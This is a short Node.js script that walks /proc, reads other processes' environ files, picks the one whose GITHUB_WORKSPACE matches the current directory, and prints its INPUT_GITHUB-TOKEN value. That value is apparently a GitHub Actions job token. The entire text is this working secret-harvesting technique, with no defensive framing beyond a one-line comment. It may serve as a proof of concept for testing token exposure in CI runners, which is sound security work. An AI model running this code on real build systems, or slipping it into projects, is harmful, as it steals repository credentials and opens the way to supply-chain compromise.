// Prints the job's token if it can read the environment of the job's other processes.
import { readdirSync, readFileSync } from "node:fs";

for (const id of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  try {
    const env = readFileSync(`/proc/${id}/environ`, "utf8").split("\0");
    if (!env.includes(`GITHUB_WORKSPACE=${process.cwd()}`)) continue;
    const token = env.find((pair) => pair.startsWith("INPUT_GITHUB-TOKEN="))?.split("=")[1];
    if (token === undefined) continue;
    process.stdout.write(token);
    break;
  } catch {
    // The process belongs to another user or has ended.
  }
}
